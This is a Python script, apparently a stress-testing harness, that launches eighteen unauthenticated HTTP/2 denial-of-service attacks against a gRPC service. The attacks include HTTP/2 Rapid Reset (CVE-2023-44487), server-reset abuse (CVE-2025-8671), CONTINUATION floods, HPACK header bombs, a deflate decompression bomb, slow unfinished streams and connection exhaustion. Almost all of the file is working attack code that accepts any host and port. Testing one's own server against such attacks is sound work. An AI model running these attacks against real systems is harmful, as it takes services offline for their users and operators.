"""What a stranger without a token may do to the port of gRPC: attacks.py NAME HOST:PORT SECONDS

Each attack runs until it has done what it can or the seconds are over, and says how far it got."""
import resource
import socket
import sys
import time
import zlib

from raw_http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                       WINDOW_UPDATE, RawConnection, call_headers, connect, frame, literal, message)

CREATE_BUDGET = b"/epsledger.v1.BudgetService/CreateBudget"
HEALTH_CHECK = b"/grpc.health.v1.Health/Check"
HEALTH_WATCH = b"/grpc.health.v1.Health/Watch"
REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
FALSE_TOKEN = ((b"authorization", b"Bearer epsl_" + b"A" * 43),)


def until(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield


def idle_connections(address, seconds):
    """As many as the server's file descriptors and more, that never say a word."""
    held = []
    for _ in range(1100):
        try:
            held.append(connect(address))
        except OSError:
            break
    for _ in until(seconds):
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return "%d connections" % len(held)


def connection_churn(address, seconds):
    """Connections that begin HTTP/2 and end, as fast as can be: each takes the place of another stranger."""
    made = 0
    for _ in until(seconds):
        RawConnection(address).close()
        made += 1
    return "%d connections" % made


def rapid_reset(address, seconds):
    """CVE-2023-44487: streams that are opened and reset, as fast as can be, without reading."""
    sent, connections = 0, 0
    block = call_headers(CREATE_BUDGET, FALSE_TOKEN)
    for _ in until(seconds):
        connection = RawConnection(address)
        connections += 1
        while connection.next_stream < 400_000:
            batch = b""
            for _ in range(200):
                stream = connection.stream()
                batch += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            if not connection.send(batch) or not connection.drain():
                break
            sent += 200
        connection.close()
    return "%d streams on %d connections" % (sent, connections)


def server_resets(address, seconds):
    """CVE-2025-8671: streams that the client makes the server reset, by a window of nothing more."""
    sent, connections = 0, 0
    block = call_headers(CREATE_BUDGET, FALSE_TOKEN)
    for _ in until(seconds):
        connection = RawConnection(address)
        connections += 1
        while connection.next_stream < 400_000:
            batch = b""
            for _ in range(200):
                stream = connection.stream()
                batch += frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
            if not connection.send(batch) or not connection.drain():
                break
            sent += 200
        connection.close()
    return "%d streams on %d connections" % (sent, connections)


def continuation(address, seconds):
    """Headers that never end, in frames that follow each other."""
    sent, connections = 0, 0
    filler = b"".join(literal(b"x-%d" % i, b"y" * 120) for i in range(100))
    for _ in until(seconds):
        connection = RawConnection(address)
        connections += 1
        connection.send(frame(HEADERS, 0, 1, call_headers(CREATE_BUDGET)))
        for _ in range(20_000):
            if not connection.send(frame(CONTINUATION, 0, 1, filler)):
                break
            sent += len(filler)
        connection.close()
    return "%d bytes of headers on %d connections" % (sent, connections)


def header_bomb(address, seconds):
    """One large header in the table of both ends, meant again and again by one byte each."""
    sent, connections = 0, 0
    for _ in until(seconds):
        connection = RawConnection(address)
        connections += 1
        first = call_headers(CREATE_BUDGET) + b"".join(literal(b"z%d" % i, b"z" * 200, index=True) for i in range(16))
        for number in range(1000):
            block = (first if number == 0 else call_headers(CREATE_BUDGET)) + b"\xbe" * 14_000
            if not connection.send(frame(HEADERS, END_HEADERS, connection.stream(), block)) or not connection.drain():
                break
            sent += 14_000
        connection.close()
    return "%d headers on %d connections" % (sent, connections)


def compressed_messages(address, seconds):
    """Messages that say that they are compressed: 0.78 MB that would be 800."""
    bomb = zlib.compress(b"\0" * (64 << 20), 9)
    calls = 0
    block = call_headers(CREATE_BUDGET, ((b"grpc-encoding", b"deflate"),))
    for _ in until(seconds):
        connection = RawConnection(address)
        for _ in range(16):
            stream = connection.stream()
            connection.send(frame(HEADERS, END_HEADERS, stream, block))
            payload = message(bomb, compressed=1)
            for at in range(0, len(payload), 16_384):
                connection.send(frame(DATA, 0, stream, payload[at:at + 16_384]))
            connection.send(frame(DATA, END_STREAM, stream))
            calls += 1
            if not connection.drain():
                break
        connection.close()
    return "%d messages" % calls


def unfinished_requests(address, seconds, acknowledge=True, more=()):
    """Requests of a megabyte, less a hundred bytes, that are left at that."""
    held, streams, body = [], 0, b"x" * 16_000
    block = call_headers(CREATE_BUDGET, more)
    for _ in range(6):
        connection = RawConnection(address, acknowledge=acknowledge)
        held.append(connection)
        for _ in range(100):
            stream = connection.stream()
            connection.send(frame(HEADERS, END_HEADERS, stream, block) +
                            frame(DATA, 0, stream, message(body, length=(1 << 20) - 100)))
            streams += 1
            # As far as the window of a stream and of the connection goes, and beyond it.
            for _ in range(3 if acknowledge else 60):
                if not connection.send(frame(DATA, 0, stream, body)):
                    break
            connection.drain()
    for _ in until(seconds):
        for connection in held:
            connection.drain()
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return "%d streams" % streams


def unfinished_without_settings(address, seconds):
    """The same by a client that never says that it has read the server's limits."""
    return unfinished_requests(address, seconds, acknowledge=False)


def unfinished_with_false_token(address, seconds):
    return unfinished_requests(address, seconds, more=FALSE_TOKEN)


def streams_without_messages(address, seconds):
    """Streams of the services that are opened by strangers, who then say nothing."""
    held, streams = [], 0
    for path in (b"/epsledger.v1.BudgetService/WatchBudget", b"/epsledger.v1.AuditService/ExportLedger",
                 b"/epsledger.v1.ChargeService/StreamCharges"):
        for _ in range(10):
            connection = RawConnection(address)
            held.append(connection)
            for _ in range(10):
                batch = b""
                for _ in range(100):
                    batch += frame(HEADERS, END_HEADERS, connection.stream(), call_headers(path, FALSE_TOKEN))
                streams += 100 if connection.send(batch) else 0
                connection.drain()
    for _ in until(seconds):
        for connection in held:
            connection.drain()
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return "%d streams" % streams


def unfinished_streams(address, seconds):
    """As much as streams of strangers take of messages that are not whole, to the last byte that all may hold."""
    held, streams, body = [], 0, b"x" * 16_000
    for _ in range(60):
        connection = RawConnection(address)
        held.append(connection)
        for _ in range(29):
            stream = connection.stream()
            data = frame(DATA, 0, stream, message(body, length=(1 << 20) - 100)) + frame(DATA, 0, stream, body) * 3
            streams += 1 if connection.send(
                frame(HEADERS, END_HEADERS, stream, call_headers(b"/epsledger.v1.BudgetService/WatchBudget")) + data) else 0
        connection.drain()
    for _ in until(seconds):
        for connection in held:
            connection.drain()
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return "%d streams" % streams


def four_gigabytes(address, seconds):
    """Messages that announce four gigabytes."""
    held = []
    for _ in range(100):
        connection = RawConnection(address)
        stream = connection.stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, call_headers(HEALTH_CHECK)) +
                        frame(DATA, 0, stream, message(b"x" * 8000, length=0xffffffff)))
        held.append(connection)
    for _ in until(seconds):
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return "%d messages" % len(held)


def small_frames(address, seconds):
    """A byte a frame, frames without a byte, priorities of streams that are not there."""
    sent = 0
    for _ in until(seconds):
        connection = RawConnection(address)
        connection.send(frame(HEADERS, END_HEADERS, connection.stream(), call_headers(HEALTH_CHECK)))
        batch = (frame(DATA, 0, 1, b"\0") + frame(DATA, 0, 1)) * 100 + b"".join(
            frame(PRIORITY, 0, 2 * i + 3, b"\0\0\0\0\x10") for i in range(100))
        for _ in range(200):
            if not connection.send(batch) or not connection.drain():
                break
            sent += len(batch)
        connection.close()
    return "%d bytes" % sent


def pings_unread(address, seconds):
    """Pings and settings by a client that reads no answer."""
    held, sent = [], 0
    for _ in range(50):
        connection = RawConnection(address)
        held.append(connection)
        batch = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 200
        connection.socket.settimeout(0.2)
        for _ in range(200):
            if not connection.send(batch):
                break
            sent += 400
    for _ in until(seconds):
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return "%d frames" % sent


def answers_unread(address, seconds):
    """Calls whose answers nobody takes."""
    held, calls = [], 0
    for _ in range(50):
        connection = RawConnection(address)
        held.append(connection)
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        connection.socket.settimeout(0.2)
        for path in (HEALTH_CHECK, CREATE_BUDGET):
            block = call_headers(path, FALSE_TOKEN)
            for _ in range(40):
                batch = b""
                for _ in range(50):
                    stream = connection.stream()
                    batch += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message(b""))
                if not connection.send(batch):
                    break
                calls += 50
    for _ in until(seconds):
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return "%d calls" % calls


def open_watches(address, seconds):
    """Streams that strangers may open, as many as there are."""
    held, streams = [], 0
    for _ in range(100):
        connection = RawConnection(address)
        held.append(connection)
        for path in (HEALTH_WATCH, REFLECTION):
            for _ in range(100):
                stream = connection.stream()
                if connection.send(frame(HEADERS, END_HEADERS, stream, call_headers(path)) +
                                   frame(DATA, 0, stream, message(b""))):
                    streams += 1
        connection.drain()
    for _ in until(seconds):
        for connection in held:
            connection.drain()
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return "%d streams" % streams


def refused_calls(address, seconds):
    """Calls without a token, as many as go."""
    calls = 0
    connection = RawConnection(address)
    block = call_headers(CREATE_BUDGET, FALSE_TOKEN)
    for _ in until(seconds):
        batch = b""
        for _ in range(50):
            stream = connection.stream()
            batch += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message(b""))
        if connection.next_stream > 1_000_000_000 or not connection.send(batch) or not connection.drain():
            connection.close()
            connection = RawConnection(address)
        calls += 50
    connection.close()
    return "%d calls" % calls


ATTACKS = [idle_connections, connection_churn, rapid_reset, server_resets, continuation, header_bomb, compressed_messages,
           unfinished_requests, unfinished_without_settings, unfinished_with_false_token,
           streams_without_messages, unfinished_streams, four_gigabytes, small_frames,
           pings_unread, answers_unread, open_watches, refused_calls]

if __name__ == "__main__":
    # Every connection is a file of this process too.
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print({attack.__name__: attack for attack in ATTACKS}[sys.argv[1]](sys.argv[2], float(sys.argv[3])))
